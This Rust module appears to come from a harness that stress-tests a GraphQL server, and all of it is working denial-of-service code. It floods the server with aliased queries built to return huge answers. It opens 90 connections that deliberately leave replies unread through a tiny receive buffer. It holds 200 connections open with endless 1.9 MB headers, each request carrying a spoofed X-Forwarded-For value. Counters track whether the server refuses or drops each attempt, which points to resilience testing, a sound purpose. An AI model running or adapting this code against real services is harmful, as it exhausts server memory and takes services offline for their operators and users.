//! What makes a server keep memory: large answers, answers that nobody reads, heads that do not end.

use std::sync::Arc;

use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{Duration, sleep, timeout},
};

use super::{ATTACKER, RESPITE, Target, again, price::aliased};
use crate::client::Client;

/// How many clients do not read.
const UNREAD: usize = 90;

/// How long one of them keeps its connection before it asks again.
const HELD: Duration = Duration::from_mins(1);

/// The buffer of a client that does not read, so that the answer stays with the server.
const SMALL: u32 = 4096;

/// How many large answers are under way at once.
const LARGE: usize = 49;

/// How many heads are under way at once, and how many bytes each has.
const HEADS: usize = 200;
const HEAD: usize = 1_900_000;

/// How often the same text is asked for, for each row.
const TEXTS: usize = 300;

/// The largest answer for its points that is known: a hundred long texts, three hundred times, of 8 MB.
fn largest() -> String {
    format!("{{ reports(first: 100) {{ nodes {{ {} }} }} }}", aliased("narrative", TEXTS))
}

pub async fn large(target: Target) {
    let client = Client::keeping(target.address, ATTACKER);
    let document = largest();
    again(target, LARGE, move |_| {
        let (client, document) = (client.clone(), document.clone());
        async move { client.post(&document, &json!({})).await }
    })
    .await;
}

pub async fn unread(target: Target) {
    let body = json!({ "query": largest() }).to_string();
    let head = format!(
        "POST /graphql HTTP/1.1\r\nHost: {}\r\nX-Forwarded-For: {ATTACKER}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        target.address,
        body.len()
    );
    let request = Arc::new(head + &body);
    let mut all = JoinSet::new();
    for _ in 0..UNREAD {
        let (target, request) = (target.clone(), Arc::clone(&request));
        all.spawn(async move {
            loop {
                match ask_and_leave_unread(&target, &request).await {
                    Ok(_stream) => {
                        target.tally.receive();
                        sleep(HELD).await;
                    }
                    Err(_) => target.tally.break_off(),
                }
                sleep(RESPITE).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
}

async fn ask_and_leave_unread(target: &Target, request: &str) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(SMALL)?;
    let mut stream = socket.connect(target.address).await?;
    stream.write_all(request.as_bytes()).await?;
    Ok(stream)
}

/// A connection whose head has no end. Where the server answers or closes, the next one begins.
pub async fn heads(target: Target) {
    let head = format!("GET /graphql HTTP/1.1\r\nHost: {}\r\nX-Forwarded-For: {ATTACKER}\r\nX-Long: {}", target.address, "x".repeat(HEAD));
    let head = Arc::new(head);
    let mut all = JoinSet::new();
    for _ in 0..HEADS {
        let (target, head) = (target.clone(), Arc::clone(&head));
        all.spawn(async move {
            loop {
                match TcpStream::connect(target.address).await {
                    Ok(mut stream) => {
                        let mut answer = [0; 16];
                        let _ = stream.write_all(head.as_bytes()).await;
                        match timeout(HELD, stream.read(&mut answer)).await {
                            Ok(Ok(read)) if read > 0 => target.tally.refuse(),
                            _ => target.tally.break_off(),
                        }
                    }
                    Err(_) => target.tally.break_off(),
                }
                sleep(RESPITE).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
}
